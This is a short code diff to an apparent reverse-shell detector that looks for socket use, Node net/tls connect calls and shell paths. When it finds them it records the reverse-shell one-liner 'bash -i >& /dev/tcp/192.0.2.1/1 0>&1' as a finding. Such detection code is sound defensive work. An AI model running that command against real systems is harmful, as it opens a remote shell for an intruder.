@@ -53,7 +53,8 @@ def texts(
         reached: A function that gives for each call of some words the literals in it.
     """
     said = []
-    if any(word in bare for word in _SOCKETS) or "/inet/tcp" in program:
+    is_joined = ".connect(" in bare and any(text in ("net", "tls", "node:net") for text, _, _, _ in found)
+    if is_joined or any(word in bare for word in _SOCKETS) or "/inet/tcp" in program:
         has_shell = any(text in _SHELL_PATHS or text.startswith(("/bin/sh", "/bin/bash")) for text, _, _, _ in found)
         if has_shell and any(word in bare for word in _CONNECTORS):
             said.append("bash -i >& /dev/tcp/192.0.2.1/1 0>&1")
